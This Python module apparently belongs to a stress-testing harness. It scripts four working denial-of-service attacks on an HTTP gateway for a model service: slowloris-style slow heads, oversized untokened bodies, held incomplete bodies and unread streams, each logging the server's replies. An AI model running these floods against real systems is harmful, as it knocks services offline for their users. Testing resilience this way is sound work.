"""Attacks through the HTTP gateway."""

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator

from attacks.attacker import MODELS, RUNNING_JOB, TRAINING, Attack, Attacker, forever

_BODY_BYTES = 8 << 20
_BLOCK = bytes(1 << 16)


async def slow_heads(attacker: Attacker) -> None:
    """Hold 1,000 connections that send a byte of a request's head twice a second."""

    async def send(_number: int) -> None:
        async with _connection(attacker) as (reader, writer):
            answer = asyncio.ensure_future(reader.read(100))
            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
            while not answer.done():
                writer.write(b"a")
                await writer.drain()
                await asyncio.wait([answer], timeout=0.5)
            attacker.statuses[_status(await answer)] += 1

    await attacker.repeat(1000, send)


async def bodies_without_token(attacker: Attacker) -> None:
    """Send bodies of 40 MB without the token."""

    async def send(_number: int) -> None:
        async with _connection(attacker) as (reader, writer):
            answer = asyncio.ensure_future(reader.read(100))
            writer.write(_predict_head(40_000_000))
            while not answer.done():
                writer.write(_BLOCK)
                await writer.drain()
            attacker.statuses[_status(await answer)] += 1

    await attacker.repeat(16, send)


async def held_bodies(attacker: Attacker) -> None:
    """Hold 100 requests whose bodies of 8 MiB lack their last byte."""

    async def send(_number: int) -> None:
        async with _connection(attacker) as (reader, writer):
            answer = asyncio.ensure_future(reader.read(100))
            writer.write(_predict_head(_BODY_BYTES, f"Authorization: Bearer {attacker.target.token}\r\n"))
            for _ in range(_BODY_BYTES // len(_BLOCK) - 1):
                if answer.done():
                    break
                writer.write(_BLOCK)
                await writer.drain()
            writer.write(_BLOCK[1:])
            attacker.statuses[_status(await answer)] += 1

    await attacker.repeat(100, send)


async def unread_streams(attacker: Attacker) -> None:
    """Watch the job that runs through 300 connections, and read nothing."""
    host, port = attacker.target.http.split(":")
    head = (
        f"GET {TRAINING}/WatchJob?name={RUNNING_JOB} HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: Bearer {attacker.target.token}\r\n\r\n"
    )
    connections = []
    for _ in range(300):
        connection = socket.socket()
        connections.append(connection)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        await asyncio.get_running_loop().sock_connect(connection, (host, int(port)))
        await asyncio.get_running_loop().sock_sendall(connection, head.encode())
        attacker.statuses["streams"] += 1
    await forever()


@contextlib.asynccontextmanager
async def _connection(attacker: Attacker) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """Open a connection, count it if the server resets it, and close it at the end."""
    host, port = attacker.target.http.split(":")
    try:
        reader, writer = await asyncio.open_connection(host, int(port))
        try:
            yield reader, writer
        finally:
            writer.close()
    except ConnectionError:
        attacker.statuses["reset by the server"] += 1


def _predict_head(size: int, more: str = "") -> bytes:
    return (
        f"POST {MODELS}/Predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/proto\r\n"
        f"Content-Length: {size}\r\n{more}\r\n"
    ).encode()


def _status(answer: bytes) -> str:
    return f"HTTP {answer[9:12].decode()}" if answer else "closed by the server"


HTTP_ATTACKS = [
    Attack("HTTP: slow heads, 1,000", slow_heads),
    Attack("HTTP: bodies of 40 MB, no token", bodies_without_token),
    Attack("HTTP: held bodies of 8 MiB, 100", held_bodies),
    Attack("HTTP: unread WatchJob, 300", unread_streams),
]
